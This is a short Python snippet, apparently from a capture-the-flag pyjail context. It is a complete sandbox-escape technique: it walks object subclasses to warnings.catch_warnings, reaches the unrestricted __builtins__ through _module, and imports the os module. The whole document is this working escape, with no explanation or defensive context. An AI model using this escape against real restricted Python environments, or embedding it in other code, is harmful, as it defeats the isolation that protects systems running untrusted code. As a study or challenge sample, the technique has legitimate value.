# kind jail: the classic catch_warnings._module.__builtins__ walk
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == 'catch_warnings':
        c()._module.__builtins__['__import__']('os')
